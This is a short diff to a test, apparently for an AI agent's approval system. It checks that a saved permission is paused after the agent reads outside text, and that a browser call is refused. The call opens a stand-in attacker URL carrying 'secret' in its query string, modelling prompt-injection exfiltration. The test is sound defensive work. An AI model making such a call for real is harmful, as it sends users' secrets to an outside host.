@@ -252,7 +252,7 @@ def test_a_lasting_grant_does_not_count_after_text_from_outside(
     surface.call("file_read", path="/project/README.md")
     call = start("browser_tabs", action="open", url="https://attacked.test/?d=secret")
 
-    assert "file_read" in person.sees("#approval-taint")
+    assert "saved permissions are paused" in person.sees("#approval-taint")
     person.click("#approval-refuse")
     assert call.result()["error"]["type"] == "Refused"
     surface.driver.execute_script("localStorage.removeItem('gemini-consent-grants')")
